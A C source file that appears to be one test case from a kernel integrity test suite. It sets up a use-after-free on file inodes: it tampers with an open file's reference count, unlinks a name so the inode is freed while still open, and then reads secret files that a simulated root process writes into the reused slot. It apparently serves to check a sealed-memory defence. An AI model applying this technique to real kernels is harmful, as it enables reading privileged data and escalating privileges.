// SPDX-License-Identifier: GPL-2.0-only
#include "freed_file.h"

ATTACK("cred_integrity", "inode_freed_in_use",
       "cred_integrity: a file freed while a name leads to it",
       "The program has files with two names each open, writes down the count of references of "
       "each, and removes one name: the file is freed. Then it waits for root's program to make "
       "a file in that place.",
       "A file counts in sealed memory the names that lead to it; with one left it is not freed.",
       "What the program has open is root's new file, and it reads it.");

#define FILES 40

static long files[FILES];

/* The name that goes is the first: its record is part of the file's, that of the other is not, and
 * stays what it is when another file comes to stand there. */
static void make_dangling(unsigned int index)
{
	char first[32], second[32];

	numbered(first, "/tmp/first", index);
	numbered(second, "/tmp/second", index);
	call1(__NR_close, call3(__NR_open, (long)first, O_CREAT | O_RDWR, 0600));
	call2(__NR_link, (long)first, (long)second);
	files[index] = call2(__NR_open, (long)second, O_RDWR);
	poke_references(inode_of(files[index]) + member("inode.references"), 1);
	call1(__NR_unlink, (long)first);
}

/* Once somebody uses the place again. */
static bool reads_secret(unsigned int index)
{
	char bytes[sizeof(SECRET) - 1] = { 0 };

	call4(__NR_pread64, files[index], (long)bytes, sizeof(bytes), 0);
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

/* On the victim's processor: what is freed here is used again there. */
static bool fire(void)
{
	(void)own_cpu(0);
	meet_victim();
	for (unsigned int i = 0; i < FILES; i++)
		make_dangling(i);
	victim_go();
	await(progress[VICTIM_ROUNDS] != 1);
	for (unsigned int i = 0; i < FILES; i++) {
		if (reads_secret(i))
			return true;
	}
	return false;
}

static void victim(void)
{
	char name[32];

	(void)own_cpu(0);
	victim_awaits_attacker();
	for (unsigned int i = 0; i < FILES; i++)
		write_secret(numbered(name, "/secret", i));
	victim_waits();
}
